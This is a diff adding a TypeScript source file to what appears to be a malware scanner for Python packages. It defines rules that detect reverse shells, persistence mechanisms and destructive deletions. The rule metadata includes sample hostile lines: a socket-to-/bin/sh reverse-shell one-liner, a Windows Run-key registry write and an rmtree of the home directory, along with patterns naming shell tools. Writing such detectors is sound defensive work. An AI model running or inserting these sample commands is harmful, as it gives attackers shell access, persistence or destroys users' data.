@@ -1,0 +1,150 @@
+import type { Severity } from '../../../core/types.js';
+import type { PyRule } from '../engine.js';
+import type { Node } from '../parser.js';
+import { textOf } from '../values.js';
+import { indicators } from './credentials.js';
+import { PROCESS_CALLS, preview, py } from './helpers.js';
+
+export const reverseShell: PyRule = {
+  meta: {
+    ...py,
+    id: 'PY-010',
+    name: 'reverse-shell',
+    category: 'backdoor',
+    severity: 'critical',
+    confidence: 'high',
+    description:
+      'A socket is connected and wired to a shell: os.dup2 of the socket, pty.spawn, or a process reading from the socket.',
+    rationale:
+      'This is the textbook Python reverse shell: it hands an attacker an interactive shell on the machine that installed the package.',
+    falsePositives: 'Remote-debugging and terminal-sharing tools.',
+    example: "s=socket.socket(); s.connect(('192.0.2.1',4444)); os.dup2(s.fileno(),0); pty.spawn('/bin/sh')",
+    references: ['https://attack.mitre.org/techniques/T1059/006/'],
+  },
+  create(ctx) {
+    let connect: Node | undefined;
+    let dup: Node | undefined;
+    let shellProc: Node | undefined;
+    return {
+      call(node: Node) {
+        const name = ctx.callee(node);
+        const fn = node.childForFieldName('function');
+        const method = fn?.type === 'attribute' ? fn.childForFieldName('attribute')?.text : undefined;
+        if (
+          name === 'socket.create_connection' ||
+          (method === 'connect' && ctx.taint(fn?.childForFieldName('object')).has('conn'))
+        )
+          connect ??= node;
+        if (name === 'os.dup2' && /fileno/.test(node.text)) dup ??= node;
+        if (name === 'pty.spawn') shellProc ??= node;
+        if (name && PROCESS_CALLS.has(name)) {
+          const { keywords } = ctx.args(node);
+          const stdin = keywords.get('stdin')?.text ?? '';
+          if (
+            /fileno|sock|conn|\bs\b/.test(stdin) ||
+            /\/bin\/(ba)?sh\b.*-i|cmd\.exe|powershell/.test(node.text)
+          )
+            shellProc ??= node;
+        }
+      },
+      'module:exit'() {
+        if (!connect || !(dup || shellProc)) return;
+        const at = dup ?? shellProc!;
+        ctx.report({
+          node: at,
+          message: `Connects a socket (line ${connect.startPosition.row + 1}) and binds a shell to it (line ${at.startPosition.row + 1}): a reverse shell.`,
+          evidence: { connectLine: connect.startPosition.row + 1 },
+        });
+      },
+    };
+  },
+};
+
+export const persistence: PyRule = {
+  meta: {
+    ...py,
+    id: 'PY-011',
+    name: 'persistence',
+    category: 'persistence',
+    severity: 'high',
+    confidence: 'medium',
+    description:
+      'Code installs itself to run again later: Windows Run keys or Startup folder, scheduled tasks, cron, systemd units, launch agents, shell rc files.',
+    rationale:
+      'A library has no business registering programs to start at logon; RATs and miners delivered through PyPI do it to survive reboots.',
+    falsePositives: 'Service installers and shell-completion setup helpers (which write to ~/.bashrc).',
+    example: "winreg.SetValueEx(key, 'Updater', 0, winreg.REG_SZ, exe)  # key = ...\\CurrentVersion\\Run",
+    references: [
+      'https://attack.mitre.org/techniques/T1547/001/',
+      'https://attack.mitre.org/techniques/T1053/',
+    ],
+  },
+  create(ctx) {
+    const patterns = indicators().raw.persistence.map((p) => ({
+      re: new RegExp(p.pattern, 'i'),
+      kind: p.kind,
+      severity: p.severity,
+    }));
+    const seen = new Set<string>();
+    const check = (node: Node, text: string | undefined) => {
+      if (!text || text.length < 5 || text.length > 8192) return;
+      for (const p of patterns) {
+        if (seen.has(p.kind) || !p.re.test(text)) continue;
+        seen.add(p.kind);
+        ctx.report({
+          node,
+          severity: p.severity as Severity,
+          weak: p.severity !== 'high',
+          message: `Refers to a ${p.kind} (${preview(text, 80)}).`,
+          evidence: { kind: p.kind },
+        });
+      }
+    };
+    return {
+      string(node: Node) {
+        if (node.parent?.type === 'concatenated_string') return;
+        check(node, textOf(ctx.evaluate(node)));
+      },
+      binary_operator(node: Node) {
+        if (node.parent?.type === 'binary_operator') return;
+        check(node, textOf(ctx.evaluate(node)));
+      },
+      call(node: Node) {
+        const fn = node.childForFieldName('function');
+        if (fn && /join|format/.test(fn.text)) check(node, textOf(ctx.evaluate(node)));
+      },
+    };
+  },
+};
+
+const ROOTS =
+  /^(\/|~|~\/|%USERPROFILE%|%HOMEPATH%|%APPDATA%|%LOCALAPPDATA%|[A-Za-z]:\\?\\?|\/home\/?|\/Users\/?|\.)$/;
+
+export const destructive: PyRule = {
+  meta: {
+    ...py,
+    id: 'PY-013',
+    name: 'destructive-payload',
+    category: 'destruction',
+    severity: 'critical',
+    confidence: 'medium',
+    description:
+      "Code deletes a whole home, root or drive folder (shutil.rmtree('/'), rmtree(os.path.expanduser('~'))) or wipes files it walks.",
+    rationale: "Wipers and protestware delete the victim's data; no library deletes a user's home directory.",
+    falsePositives:
+      'Cleanup helpers that operate on a build folder whose path happens to be computed as the current directory.',
+    example: "shutil.rmtree(os.path.expanduser('~'))",
+    references: ['https://attack.mitre.org/techniques/T1485/'],
+  },
+  create(ctx) {
+    return {
+      call(node: Node) {
+        const name = ctx.callee(node);
+        if (name !== 'shutil.rmtree' && name !== 'os.removedirs' && name !== 'os.rmdir') return;
+        const target = ctx.evaluateString(ctx.args(node).positional[0]);
+        if (!target || !ROOTS.test(target.trim()) || target.trim() === '.') return;
+        ctx.report({ node, message: `Deletes ${target} recursively.`, evidence: { target } });
+      },
+    };
+  },
+};
